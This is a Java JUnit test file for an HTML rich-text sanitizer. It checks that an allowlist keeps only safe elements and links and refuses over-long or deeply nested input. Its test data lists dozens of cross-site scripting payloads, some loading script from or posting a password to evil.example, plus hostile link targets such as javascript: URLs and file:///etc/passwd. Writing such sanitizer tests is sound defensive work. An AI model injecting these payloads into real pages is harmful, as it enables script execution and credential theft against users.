package org.wandelwerk.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import gg.jte.output.StringOutput;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wandelwerk.kernel.Refused;

class RichTextTest {

    private static final String[] ATTACKS = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='x'/onerror='alert(1)'>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<style>@import '//evil.example';</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p onclick=alert(1)>x</p>",
        "<p onmouseover\n=\nalert(1)>x</p>",
        "<strong/onfocus=alert(1) tabindex=1>x",
        "<a href=\"https://x.example\" onclick=alert(1)>x</a>",
        "<a name=\"defaultView\">x</a>",
        "<p id=\"location\">x</p>",
        "<form action=//evil.example><input name=password><button>x</button></form>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src onerror=alert(1)>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<title></title><img src onerror=alert(1)>",
        "<select><style></select><img src onerror=alert(1)></style>",
        "<table><td background=javascript:alert(1)>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<custom-element onfoo=alert(1) is=x>x</custom-element>",
        "<a href=https://x.example/`onmouseover=alert(1)>x</a>",
        "<\u0000script>alert(1)</script>",
        "<img\u000Bsrc=x\u000Conerror=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "<div><p>x</div>",
        "<h1>x</h1><h2>y</h2>",
        "<portal src=javascript:alert(1)>",
        "<plaintext><img src onerror=alert(1)>"
    };

    private static final Set<String> ELEMENTS =
            Set.of("a", "blockquote", "br", "em", "h3", "h4", "li", "ol", "p", "strong", "ul");

    @Test
    void whatPeopleWriteStays() {
        var text = "<h3>Ziel</h3><p>Ein <strong>Netz</strong> &amp; <em>mehr</em><br>Łužyca</p><ul><li>eins</li></ul>"
                + "<ol><li>zwei</li></ol><blockquote><p>Zitat</p></blockquote><h4>Ende</h4>";
        assertThat(RichText.of(text).html()).isEqualTo(text);
    }

    @Test
    void whatEditorsCallOtherwiseIsTheSame() {
        assertThat(RichText.of("<b>fest</b> <i>leise</i>").html()).isEqualTo("<strong>fest</strong> <em>leise</em>");
    }

    @ParameterizedTest
    @CsvSource({
        "https://lausitz.example/a?b=c#d, https://lausitz.example/a?b=c#d",
        "http://lausitz.example, http://lausitz.example",
        "mailto:info@lausitz.example, mailto:info@lausitz.example"
    })
    void aLinkToAnotherHouseSaysThatItIsForeign(String typed, String address) {
        assertThat(RichText.of("<a href=\"" + typed + "\" target=\"_blank\">x</a>")
                        .html())
                .isEqualTo("<a href=\"" + address + "\" rel=\"noopener noreferrer nofollow\">x</a>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                "java&#10;script:alert(1)",
                "&#106;avascript:alert(1)",
                "  javascript:alert(1)",
                "\u0001javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "vbscript:x",
                "//evil.example",
                "/innen",
                "ftp://evil.example",
                "file:///etc/passwd",
                "https://evil.example\" onclick=\"alert(1)",
                "mailto:a@b.example?body=x:y",
                "blob:https://x",
                "https:x",
                "https://a.example/\\..",
                "feed:javascript:alert(1)",
                ""
            })
    void aLinkThatMayHarmIsOnlyItsWords(String address) {
        var html = RichText.of("<a href='" + address + "'>Wort</a>").html();
        assertThat(html).doesNotContain("href=\"javascript", "onclick=", "script>");
        assertThat(Jsoup.parse(html).select("a[href]").eachAttr("href"))
                .allMatch(left -> left.matches("https://evil\\.example"));
        assertThat(Jsoup.parse(html).text()).contains("Wort");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingButTheAllowedIsLeftOfAnAttack(String attack) {
        var html = RichText.of(attack).html();
        for (var read : new Document[] {Jsoup.parse(html), Jsoup.parse("<svg>" + html + "</svg>")}) {
            assertThat(read.body().getAllElements().stream().skip(1).map(element -> element.normalName()))
                    .allMatch(name -> ELEMENTS.contains(name) || name.equals("svg"));
            assertThat(read.body().getAllElements().stream()
                            .flatMap(element -> element.attributes().asList().stream())
                            .map(Attribute::getKey))
                    .allMatch(name -> name.equals("href") || name.equals("rel"));
        }
        assertThat(RichText.of(html).html()).as("cleaned again").isEqualTo(html);
    }

    static Stream<String> attacks() {
        return Stream.of(ATTACKS);
    }

    @Test
    void longAndDeepTextsAreRefused() {
        assertThatThrownBy(() -> RichText.of("x".repeat(RichText.LONGEST + 1))).isInstanceOf(Refused.class);
        assertThatThrownBy(() -> RichText.of("<ul><li>".repeat(20))).isInstanceOf(Refused.class);
        assertThatThrownBy(() -> RichText.of("<blockquote>".repeat(4000))).isInstanceOf(Refused.class);
        assertThat(RichText.of("<div>".repeat(4000) + "x").html()).isEqualTo("x");
    }

    @Test
    void templatesWriteItAsItIs() {
        var output = new StringOutput();
        RichText.of("<p>a &lt; b</p>").writeTo(output);
        assertThat(output.toString()).isEqualTo("<p>a &lt; b</p>");
        assertThat(RichText.of(" ").isEmptyContent() || RichText.of("").isEmptyContent())
                .isTrue();
    }
}
